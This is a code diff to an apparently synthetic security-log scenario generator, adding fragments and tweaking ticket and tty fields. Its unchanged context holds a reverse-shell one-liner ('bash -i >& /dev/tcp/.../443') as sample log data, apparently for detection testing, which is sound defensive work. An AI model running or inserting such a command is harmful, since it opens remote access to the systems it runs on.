@@ -1,4 +1,6 @@
+import { closing } from '../../fragments/closing.ts'
 import { entry } from '../../fragments/entry.ts'
+import { footprint } from '../../fragments/footprint.ts'
 import { ordinaryHost } from '../../fragments/ordinary-host.ts'
 import { defineScenario } from '../../scenario.ts'
 
@@ -68,7 +70,7 @@ export default defineScenario({
           {
             fingerprint,
             owner: user,
-            ticket: make.id('t', 'SEC-'),
+            ticket: make.id('t', 'SEC'),
             expires_days: whole('exp', 30, 365),
             result: 'found',
           },
@@ -168,7 +170,7 @@ export default defineScenario({
           uid: either(0, make.uid('u')),
           user,
           cmd: either('bash -i >& /dev/tcp/' + outside + '/443 0>&1', 'sudo systemctl reload app'),
-          tty: either('none', 'pts/0'),
+          tty: either('unknown', 'pts/0'),
         },
         ['{user} tty={tty}: {cmd}', '{cmd} by {user}'],
       ),
@@ -188,6 +190,8 @@ export default defineScenario({
         'session {session} of {user} ended after {lived_s} s',
       ]),
       ordinaryHost(story, 'c', 1),
+      footprint(story, 'foot'),
+      closing(story),
     ]
   },
 })
